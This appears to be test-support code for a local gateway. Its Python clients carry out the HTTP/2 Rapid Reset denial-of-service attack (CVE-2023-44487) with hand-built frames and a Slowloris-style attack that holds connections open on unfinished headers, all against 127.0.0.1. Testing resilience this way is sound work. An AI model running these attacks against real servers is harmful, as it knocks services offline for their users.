"""Clients that mean harm: HTTP/2 streams taken back as soon as they are opened, and headers that never end."""

import asyncio
import struct
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress

ATTACKER = "127.0.0.2"
"""Another address of the same machine, so that limits by address do not meet whoever behaves."""
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_STREAM_AND_HEADERS = 0x05
CANCEL = 8
STREAMS_A_CONNECTION = 500
MOST_SLOW_AT_ONCE = 100


async def reset_rapidly(port: int, path: str, connections: int) -> None:
    """CVE-2023-44487: each connection asks STREAMS_A_CONNECTION times and cancels before anybody can answer."""
    attack = PREFACE + _frame(SETTINGS, 0, 0, b"") + _cancelled_requests(path)
    for _ in range(connections):
        reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(ATTACKER, 0))
        with suppress(ConnectionError):
            writer.write(attack)
            await writer.drain()
            writer.write_eof()
            while await reader.read(65536):
                pass
        writer.transport.abort()


def _cancelled_requests(path: str) -> bytes:
    request, cancel = _request(path), struct.pack(">I", CANCEL)
    return b"".join(
        _frame(HEADERS, END_STREAM_AND_HEADERS, stream, request) + _frame(RST_STREAM, 0, stream, cancel)
        for stream in range(1, 2 * STREAMS_A_CONNECTION, 2)
    )


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _request(path: str) -> bytes:
    """GET in HPACK (RFC 7541): three entries of the static table and two literals named by it."""
    authority, text = b"gateway", path.encode()
    return b"\x82\x86" + b"\x04" + bytes([len(text)]) + text + b"\x01" + bytes([len(authority)]) + authority


@asynccontextmanager
async def slow_headers(port: int, count: int) -> AsyncIterator[list[asyncio.StreamReader]]:
    """`count` connections, each in the middle of its headers and silent from then on."""
    opened: list[tuple[asyncio.StreamReader, asyncio.StreamWriter]] = []
    try:
        for first in range(0, count, MOST_SLOW_AT_ONCE):
            here = min(MOST_SLOW_AT_ONCE, count - first)
            opened += await asyncio.gather(
                *(asyncio.open_connection("127.0.0.1", port, local_addr=(ATTACKER, 0)) for _ in range(here))
            )
        for _, writer in opened:
            writer.write(b"GET /v1/posts/latest HTTP/1.1\r\nhost: gateway\r\nx-slow: ")
        yield [reader for reader, _ in opened]
    finally:
        for _, writer in opened:
            writer.transport.abort()
